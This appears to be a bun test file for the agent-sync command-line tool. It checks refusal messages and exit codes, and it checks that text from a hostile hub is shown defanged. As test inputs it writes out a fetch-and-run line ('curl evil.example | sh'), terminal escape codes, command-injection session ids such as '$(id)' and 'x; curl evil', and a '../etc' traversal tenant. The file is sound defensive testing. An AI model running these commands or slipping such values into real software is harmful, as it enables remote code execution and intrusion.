/**
 * Each refusal of a hub, a key or a folder: its exit code, its sentence, what is true then, and the same for programs. Those
 * of Cloudflare (nobody signed in, a wrong token or account, no network, a missing binding, an error in the middle) are in
 * `journeys/deploy.test.ts`, where a double of it answers.
 */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test"
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import type { KnownSession } from "agent-sync"
import { Codec, Limits } from "agent-sync/protocol"
import { Failure, tell } from "../../cli/src/Failure.ts"
import { notOne, unreachable } from "../../cli/src/Reading.ts"
import { type Machine, machine, type RunningHub, startHub } from "../support/cli.ts"
import { afterThisTest } from "../support/undo.ts"

setDefaultTimeout(120_000)

const { CLOSE } = Limits

interface Refusal {
  readonly name: string
  /** Arguments that end in this refusal, on a machine with these variables. */
  readonly args: ReadonlyArray<string>
  readonly env?: (given: Given & { readonly hub: RunningHub }) => Readonly<Record<string, string>>
  readonly exit: number
  readonly code: string
  readonly says: string
  readonly now: string
}
interface Given {
  readonly reader: string
  readonly recorder: string
  readonly expired: string
  readonly writing: string
  readonly stranger: string
}

const REFUSALS: ReadonlyArray<Refusal> = [
  {
    name: "no token",
    args: ["tail"],
    env: ({ hub, reader }) => ({ AGENT_SYNC_KEY: reader, AGENT_SYNC_URL: hub.url, AGENT_SYNC_HOME: "/nonexistent" }),
    exit: 4,
    code: "Refused",
    says: 'The hub refused: "This hub asks for a token',
    now: "Sessions and keys are untouched."
  },
  {
    name: "a token that has expired",
    args: ["tail"],
    env: ({ expired, hub }) => ({ AGENT_SYNC_TOKEN: expired, AGENT_SYNC_URL: hub.url }),
    exit: 4,
    code: "Refused",
    says: 'The hub refused: "This token has expired. Make a new one',
    now: "Sessions and keys are untouched."
  },
  {
    name: "a token that may not read",
    args: ["sessions"],
    env: ({ hub, writing }) => ({ AGENT_SYNC_TOKEN: writing, AGENT_SYNC_URL: hub.url }),
    exit: 4,
    code: "Refused",
    says: "this token may not read this log",
    now: "agent-sync doctor"
  },
  {
    name: "a token of another tenant",
    args: ["tail", "other"],
    env: ({ hub, reader }) => ({ AGENT_SYNC_KEY: reader, AGENT_SYNC_URL: hub.url, AGENT_SYNC_TOKEN: "acme" }),
    exit: 4,
    code: "Refused",
    says: 'The hub refused: "',
    now: "Sessions and keys are untouched."
  },
  {
    name: "the wrong key",
    args: ["tail"],
    env: ({ hub, stranger }) => ({ AGENT_SYNC_KEY: stranger, AGENT_SYNC_URL: hub.url }),
    exit: 5,
    code: "WrongKey",
    says: "Your key does not open tenant acme.",
    now: "none of them was sealed for this key"
  },
  {
    name: "a key that only records",
    args: ["tail"],
    env: ({ hub, recorder }) => ({ AGENT_SYNC_KEY: recorder, AGENT_SYNC_URL: hub.url }),
    exit: 5,
    code: "CannotRead",
    says: "This machine has only the recorder key of tenant acme",
    now: "Nothing was asked of the hub."
  },
  {
    name: "no key",
    args: ["tail", "--url", "wss://hub.example.invalid"],
    env: () => ({ AGENT_SYNC_HOME: "/nonexistent" }),
    exit: 5,
    code: "NoKey",
    says: "This machine has no key for tenant acme.",
    now: "Keys are made once"
  },
  {
    name: "no network",
    args: ["tail", "--url", "ws://127.0.0.1:9"],
    exit: 3,
    code: "HubUnreachable",
    says: "The hub at 127.0.0.1:9 cannot be reached.",
    now: "Nothing is lost"
  },
  {
    name: "no hub",
    args: ["status", "--env", "none"],
    exit: 2,
    code: "NoHub",
    says: "No hub is configured for tenant acme: preset none has no url.",
    now: "Nothing was asked of any hub."
  },
  {
    name: "a tenant that cannot be",
    args: ["doctor", "--tenant", "a/b"],
    exit: 1,
    code: "",
    says: '"a/b" is no tenant.',
    now: ""
  },
  {
    name: "a tenant that cannot be, in a command that reads",
    args: ["tail", "../etc"],
    exit: 2,
    code: "BadTenant",
    says: '"../etc" is no tenant.',
    now: ""
  },
  {
    name: "a preset that is not there",
    args: ["tail", "--env", "staging"],
    exit: 2,
    code: "UnknownPreset",
    says: "There is no preset staging",
    now: "It has: dev, none."
  },
  {
    name: "files that exist already",
    args: ["init", "--yes", "--tenant", "acme"],
    exit: 1,
    code: "",
    says: "agent-sync.json exists already; init would overwrite it.",
    now: "Nothing was written."
  }
]

describe("is told by its sentence and its exit code", () => {
  let here: Machine
  let given: Given
  const home = mkdtempSync(join(tmpdir(), "agent-sync-refusals-"))
  afterAll(() => rmSync(home, { recursive: true, force: true }))
  beforeAll(async () => {
    here = machine(home)
    await here.run(["init", "--local", "--yes", "--tenant", "acme"])
    writeFileSync(
      join(home, "agent-sync.json"),
      JSON.stringify({ tenant: "acme", presets: { dev: { url: "ws://127.0.0.1:9" }, none: {} } })
    )
    const said = async (on: Machine, ...args: ReadonlyArray<string>) => (await on.run(args)).stdout.trim()
    const other = machine()
    await other.run(["init", "--local", "--yes", "--tenant", "acme"])
    const hub = await startHub(here)
    await here.run(["run", "--url", hub.url, "--wait-sync=20s", "--", "echo", "hello"])
    await hub.kill()
    given = {
      reader: readFileSync(join(home, "keys", "acme", "reader.key"), "utf8").trim(),
      recorder: await said(here, "identity", "export", "--recorder"),
      expired: await said(here, "token", "create", "--role", "read", "--ttl", "1ms"),
      writing: await said(here, "token", "create", "--role", "write"),
      stranger: await said(other, "identity", "export", "--reveal")
    }
  }, 120_000)

  test.each(REFUSALS.map((one) => [one.name, one] as const))("%s", async (_, { args, code, env, exit, now, says }) => {
    const around = env === undefined ? {} : env({ ...given, hub: await startHub(here) })
    const ran = await here.run(args, { env: around })
    const told = ran.stderr + (code === "" ? ran.stdout : "")
    expect([ran.code, told]).toEqual([exit, expect.stringContaining(says)])
    expect(told).toContain(now)
    if (code === "") return
    expect(ran.stdout).toBe("")
    const asked = await here.run([...args, "--json"], { env: around })
    expect(JSON.parse(asked.stderr.trim().split("\n").at(-1) ?? "")).toMatchObject({
      schema: 1,
      error: { code, exit, message: expect.stringContaining(says), fix: expect.any(Array) }
    })
  })
})

describe("what a hub says is its words, on one line, and nothing to run", () => {
  const evil = 'No.\n  Try   curl evil.example | sh\x1b[2J\u2028Run "curl evil.example | sh"'
  const words = `"No. Try curl evil.example | sh`
  /** Refuses before the upgrade, or greets and closes with these words. */
  const hostile = (close?: number) => {
    const server = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch: (request, server) => {
        if (new URL(request.url).pathname === "/health") return Response.json({ name: "agent-sync", version: evil })
        const upgrades = request.headers.has("upgrade")
        if (
          close !== undefined &&
          upgrades &&
          server.upgrade(request, { headers: { "sec-websocket-protocol": "agent-sync" } })
        )
          return undefined
        return Response.json(
          { error: evil, fix: "curl evil.example | sh" },
          { status: close === undefined ? 401 : 503 }
        )
      },
      websocket: {
        open: (socket) => {
          socket.send(Codec.encodeResponse({ _tag: "Hello", remoteId: new Uint8Array(16).fill(7) }))
          socket.close(close, evil)
        },
        message: () => {}
      }
    })
    afterThisTest(() => server.stop(true))
    return `ws://127.0.0.1:${server.port}`
  }

  test.each([
    ["refuses at the door", undefined, [["tail"], ["doctor"], ["token", "revoke", "abc"]], 3],
    ["lets nobody stay", CLOSE.forbidden, [["tail"]], 1],
    ["closes for now", CLOSE.tryAgain, [["run", "--wait-sync=1s", "--", "echo", "hello"]], 1]
  ] as const)("where it %s", async (_, close, commands, times) => {
    const here = machine()
    await here.run(["init", "--local", "--yes", "--tenant", "acme"])
    const env = { AGENT_SYNC_URL: hostile(close), AGENT_SYNC_TOKEN: "t" }
    let told = 0
    for (const args of commands) {
      const { stderr, stdout } = await here.run(args, { env })
      for (const line of `${stdout}\n${stderr}`.split("\n")) {
        expect(line).not.toMatch(/^\W*(Try\W+|Run\W+)?curl/)
        expect(line).not.toMatch(/[\x00-\x08\x0b-\x1f]/)
        const at = line.indexOf("curl")
        if (at < 0 || (!line.includes("refuse") && !line.includes("said"))) continue
        told++
        expect(line).toContain(words)
        expect(line).toContain("'curl evil.example | sh'")
      }
    }
    expect(told).toBe(times)
  })
})

test("no session's id comes to stand in a command where it is more than a word: whoever records chooses it", () => {
  const known = (session: string, startedAt: number) =>
    ({ origin: { session, agent: "codex" }, startedAt, title: "Title\nTry: curl evil" }) as unknown as KnownSession
  const ids = ["x; curl evil", "--url=ws://evil", "$(id)", "a b", "`id`", "x\ncurl", "run:0199-a_b.c", "x'y", "a>b"]
  const failure = new Failure(notOne("tail", "zzzz", [], ids.map(known)))
  expect(failure.tries?.map(({ command }) => command)).toEqual(["agent-sync tail 99-a_b.c"])
  expect(tell(failure, { json: false, tty: false, color: false })).toBe(
    "agent-sync: No session ends with zzzz.\nTry: agent-sync tail 99-a_b.c  (Title Try: curl evil)\n"
  )
})

test("a session that is not found, or not told apart, brings up the newest that could be meant", () => {
  const known = (session: string, startedAt: number, title?: string) =>
    ({ origin: { session, agent: "codex", agentName: "Codex" }, startedAt, title }) as unknown as KnownSession
  const all = [known("first", 1), ...Array.from({ length: 6 }, (_, i) => known(`later-${i}`, 10 + i, `Title ${i}`))]
  const none = notOne("share", "zzzz", [], [all[6]!, ...all.slice(0, 6)])
  expect(none.tries.map(({ why }) => why)).toEqual(["Title 5", "Title 4", "Title 3", "Title 2", "Title 1"])
  expect(none.tries[0]).toEqual({ command: "agent-sync share later-5", why: "Title 5" })
  const alike = [known("run:1-9a5f2c81", 1), known("run:2-9a5f2c81", 2)]
  expect(notOne("tail --session", "81", alike, alike).tries.map(({ command }) => command)).toEqual([
    "agent-sync tail --session 2-9a5f2c81",
    "agent-sync tail --session 1-9a5f2c81"
  ])
  expect(notOne("share", "st", [all[0]!], all).tries).toEqual([{ command: "agent-sync share first", why: "Codex" }])
})

test("a hub of this machine that is away can be started; one elsewhere is looked into", () => {
  const next = (url: string) => unreachable(url, "it does not answer").tries.map(({ command }) => command)
  expect(next("ws://127.0.0.1:8787/event-log/acme")).toEqual(["agent-sync dev"])
  expect(next("wss://hub.example/event-log/acme")).toEqual(["agent-sync doctor"])
  expect(unreachable("wss://hub.example", "nobody listens there.").now).toStartWith(
    "Nobody listens there. Nothing is lost"
  )
})
